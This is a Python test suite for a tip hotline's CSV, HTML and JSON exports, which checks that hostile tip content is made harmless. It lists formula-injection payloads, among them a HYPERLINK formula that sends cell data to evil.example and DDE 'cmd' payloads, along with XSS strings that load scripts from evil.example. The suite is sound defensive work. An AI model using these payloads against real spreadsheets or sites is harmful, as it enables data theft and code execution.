"""Exports that stay inert whatever a tip says: CSV for Excel, HTML for print, JSON."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tipsite.hotline import exports
from tipsite.hotline.conversation import Conversation
from tipsite.hotline.reader import Note, Tip
from tipsite.hotline.terminal import SAFE_UTF8, is_unsafe, safe

from .support.hotline import HOTLINE, hotline, staff_env
from .support.keyfiles import PASSPHRASE, KeyFiles
from .support.tips import deliver, tip_fields

DANISH = "Blåbærgrød på Ærø, Øster Søgade – “citat” æøå ÆØÅ 😀"
FORMULA_STARTS = set("=+-@\t\r\n＝＋－＠")
INJECTIONS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


def a_tip(tip_id: str = "0" * 32, **fields: object) -> Conversation:
    """A tip in the store, as its conversation (no follow-ups or replies yet)."""
    values = tip_fields(**fields)
    return Conversation(Tip(id=tip_id, received_at="2026-11-28T09:00:00Z", lang="da",
                            fields=values, status="new",
                            notes=[Note("2026-11-29 10:00 UTC", "Note om sagen")]))


@pytest.mark.parametrize("payload", INJECTIONS)
def test_a_cell_that_would_start_a_formula_is_neutralised(payload: str) -> None:
    assert exports.neutralise(payload) == "'" + payload


@pytest.mark.parametrize("harmless", ["Nørregade 12", "3 kvinder", "a=b", "", "'quoted"])
def test_ordinary_cells_are_left_alone(harmless: str) -> None:
    assert exports.neutralise(harmless) == harmless


@given(st.text())
def test_no_csv_cell_ever_starts_a_formula(text: str) -> None:
    rows = list(csv.reader(io.StringIO(exports.to_csv([a_tip(description=text,
                                                             location=text)], "en")[1:])))
    for cell in rows[1]:
        assert cell.lstrip(" ")[:1] not in FORMULA_STARTS or cell.startswith("'")


def test_csv_via_hotline_opens_safely_with_danish_letters(
    tmp_path: Path, key_files: KeyFiles
) -> None:
    env = staff_env(tmp_path, PASSPHRASE)
    inbox = tmp_path / "inbox"
    for payload in INJECTIONS:
        deliver(inbox, key_files.pair.public, 1, location=payload, description=DANISH,
                people=payload)
    out = tmp_path / "tips.csv"
    result = hotline(["export", "--inbox", str(inbox), "--key", str(key_files.private),
                      "--format", "csv", "--out", str(out), "--lang", "en"], env)
    assert result.returncode == 0, result.stderr
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads Danish letters right
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(rows) == len(INJECTIONS)
    assert sorted(r["location"] for r in rows) == sorted("'" + p for p in INJECTIONS)
    assert sorted(r["people"] for r in rows) == sorted("'" + p for p in INJECTIONS)
    for row in rows:
        assert row["description"] == DANISH
        assert row["setting_label"] == "Massage clinic"
        assert row["indicators"] == "A1 A4"
        for cell in row.values():
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("fmt", ["csv", "html"])
def test_csv_and_html_are_not_poured_onto_a_terminal(tmp_path: Path, fmt: str) -> None:
    leader, follower = pty.openpty()  # a real terminal as standard output
    try:
        result = subprocess.run([str(HOTLINE), "export", "--format", fmt],
                                env=staff_env(tmp_path, PASSPHRASE), stdout=follower,
                                stderr=subprocess.PIPE, timeout=60)
    finally:
        os.close(follower)
        os.close(leader)
    assert result.returncode == 1
    assert result.stderr.decode() == (f"error: {fmt.upper()} is not for the terminal\n"
                                      "hint: add --out FILE\n")


class Elements(HTMLParser):
    """Every tag and attribute of an HTML document."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "article", "h1", "h2", "p",
                "dl", "dt", "dd", "ul", "li", "span", "code", "section"}
HOSTILE = [
    "<script>alert(document.cookie)</script>",
    "<img src=http://evil.example/t.png onerror=alert(1)>",
    "<a href='javascript:alert(1)'>klik</a>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(//evil.example/x.css)</style>",
    "<iframe src=//evil.example></iframe>",
    "</dd></dl></article><script src=https://evil.example/x.js></script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<svg onload=alert(1)><use href=https://evil.example/#x></svg>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<!--<script>-->alert(1)",
    "\x1b[2J and \u202e too",
]


def assert_inert(document: str) -> None:
    """No script, no foreign tag, no attribute that could point anywhere."""
    parsed = Elements()
    parsed.feed(document)
    assert set(parsed.tags) <= ALLOWED_TAGS, set(parsed.tags) - ALLOWED_TAGS
    assert "<script" not in document.lower()
    for name, value in parsed.attributes:
        assert name in ("lang", "charset", "http-equiv", "content", "name", "class"), name
        assert "//" not in value and "url(" not in value.lower(), (name, value)
    assert parsed.tags.count("meta") == 3 and parsed.tags.count("style") == 1
    style = document.split("<style>", 1)[1].split("</style>", 1)[0]
    assert "url(" not in style and "@import" not in style
    assert "default-src 'none'" in document


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_html_export_holds_no_script_and_no_external_url(hostile: str) -> None:
    document = exports.to_html([a_tip(description=hostile, location=hostile, people=hostile,
                                      indicators=[hostile], setting=hostile,
                                      relation=hostile)], "en")
    assert_inert(document)


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(), max_size=200))
def test_whatever_the_tip_said_the_html_stays_inert(text: str) -> None:
    assert_inert(exports.to_html([a_tip(description=text, location=text, contact=text)], "da"))


def test_html_via_hotline_keeps_danish_letters_and_stays_inert(
    tmp_path: Path, key_files: KeyFiles
) -> None:
    env = staff_env(tmp_path, PASSPHRASE)
    inbox = tmp_path / "inbox"
    deliver(inbox, key_files.pair.public, 1, description=DANISH, location=" ".join(HOSTILE))
    out = tmp_path / "tips.html"
    result = hotline(["export", "--inbox", str(inbox), "--key", str(key_files.private),
                      "--format", "html", "--out", str(out)], env)
    assert result.returncode == 0, result.stderr
    assert out.stat().st_mode & 0o777 == 0o600  # opened tips: owner only
    document = out.read_text(encoding="utf-8")
    assert_inert(document)
    assert DANISH.replace("“", "&ldquo;") in document or DANISH in document
    parsed = Elements()
    parsed.feed(document)
    assert "<script>alert(document.cookie)</script>" in "".join(parsed.text)  # shown, as text


def test_json_export_escapes_terminal_controls_but_keeps_the_text() -> None:
    text = "før\x1b[2J\x9b\u202eefter"
    document = exports.to_json([a_tip(description=text)]).decode("utf-8")
    assert not re.search("[\x1b\x9b\u202e]", document)
    assert json.loads(document)[0]["description"] == text
    assert json.loads(document)[0]["notes"] == [{"written_at": "2026-11-29 10:00 UTC",
                                                "text": "Note om sagen"}]


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=200))
def test_whatever_the_tip_said_the_json_keeps_it_and_is_safe_to_cat(text: str) -> None:
    # Both ways through to_json: plain Latin-1 (the encoder's bytes stand) and beyond
    # (the regex escapes); either way the data is unchanged and nothing unsafe is raw.
    document = exports.to_json([a_tip(description=text), a_tip("1" * 32, location="Ærø")])
    records = json.loads(document)
    assert records[0]["description"] == text
    assert records[1]["location"] == "Ærø"
    assert not [char for char in document.decode("utf-8") if is_unsafe(char)]


def test_json_export_keeps_danish_letters_as_themselves() -> None:
    document = exports.to_json([a_tip(description=DANISH)])
    assert DANISH.encode("utf-8") in document
    assert json.loads(document)[0]["description"] == DANISH


def test_the_fast_check_only_passes_characters_the_escaping_would_leave_alone() -> None:
    # escape_json_bytes returns the bytes untouched when every byte is in SAFE_UTF8;
    # that is only right if no character made of such bytes would have been escaped.
    from tipsite.hotline.terminal import escape_json_text

    safe_bytes = set(SAFE_UTF8)
    passed = [chr(code) for code in range(0x110000)
              if not 0xD800 <= code <= 0xDFFF
              and set(chr(code).encode("utf-8")) <= safe_bytes]
    assert "æ" in passed and "\n" in passed and "\x9b" not in passed
    assert [char for char in passed if escape_json_text(char) != char] == []


def test_the_escaping_fast_paths_agree_with_is_unsafe() -> None:
    # Both regexes skip ranges of always-safe characters below SCANNED_BELOW for speed;
    # those ranges come from is_unsafe, so no unassigned or format character may slip
    # through them (above it every character is looked at one by one).
    from tipsite.hotline.terminal import SCANNED_BELOW, escape_json_text

    text = "".join(map(chr, range(2 * SCANNED_BELOW)))
    assert [char for char in escape_json_text(text) if is_unsafe(char) and char != "\n"] == []
    shown = safe(text)
    assert [char for char in shown if is_unsafe(char)] == []
    assert "ø" in shown and "\u05d0" in shown and "\u05c8" not in shown  # Hebrew alef; a gap
